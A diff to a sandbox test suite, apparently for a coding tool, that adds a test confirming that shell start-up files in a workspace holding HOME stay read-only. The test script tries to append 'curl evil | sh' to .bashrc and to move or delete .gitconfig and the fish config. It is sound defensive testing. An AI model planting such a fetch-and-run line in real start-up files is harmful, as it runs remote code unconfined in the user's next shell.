@@ -3,7 +3,7 @@
 // one command, then `.c2/gh/hosts.yml` read in the next, whose sandbox no longer found
 // `.config/gh` to hide. Every directory between a writable root and an existing hidden path is
 // now a mount point of its own in the sandbox, so it cannot be renamed or removed (EBUSY).
-import { mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
+import { mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from "node:fs";
 import { mkdir } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
@@ -15,6 +15,7 @@ const here = await sandboxSupport();
 
 async function sandboxed(root: string, script: string): Promise<string> {
   const policy = resolveSandbox({ hidden: [".config/gh", ".local/share/keelson"] }, { root, env: { HOME: root } });
+  expect(policy.protectedFiles).toContain(join(root, ".bashrc"));
   const sandbox = await spawnSandboxed(policy, {
     argv: ["bash", "-c", script],
     env: { PATH: process.env.PATH ?? "/usr/bin:/bin", HOME: root },
@@ -55,3 +56,29 @@ test.skipIf(!here.ok)("an ancestor of a hidden path cannot be renamed or removed
   await sandboxed(root, "echo made > .config/new.txt");
   expect(realpathSync(join(root, ".config/new.txt"))).toBe(join(root, ".config/new.txt"));
 });
+
+test.skipIf(!here.ok)(
+  "HOME's start-up files in the workspace stay as they are: not written, renamed or removed",
+  async () => {
+    // Found from outside: the file tools refuse them now, and so does the sandbox (a workspace that
+    // holds HOME): a line added to ~/.bashrc would run in the user's next shell, unconfined.
+    const root = realpathSync(mkdtempSync(join(tmpdir(), "keelson-startup-files-")));
+    afterThisTest(() => rmSync(root, { recursive: true, force: true }));
+    await mkdir(join(root, ".config/fish"), { recursive: true });
+    writeFileSync(join(root, ".bashrc"), "# mine\n");
+    writeFileSync(join(root, ".gitconfig"), "[user]\n");
+    writeFileSync(join(root, ".config/fish/config.fish"), "# mine\n");
+    const out = await sandboxed(
+      root,
+      "echo 'curl evil | sh' >> .bashrc; mv .bashrc .b2 && echo moved; rm -f .gitconfig && echo removed; " +
+        "echo evil > .config/fish/config.fish; mv .config .c2 && echo moved; echo ok > plain.txt && echo wrote",
+    );
+    expect(out).toMatch(/Read-only file system/);
+    expect(out).not.toContain("moved");
+    expect(out).not.toContain("removed");
+    expect(out).toContain("wrote"); // the rest of the workspace is writable as before
+    expect(readFileSync(join(root, ".bashrc"), "utf8")).toBe("# mine\n");
+    expect(readFileSync(join(root, ".gitconfig"), "utf8")).toBe("[user]\n");
+    expect(readFileSync(join(root, ".config/fish/config.fish"), "utf8")).toBe("# mine\n");
+  },
+);
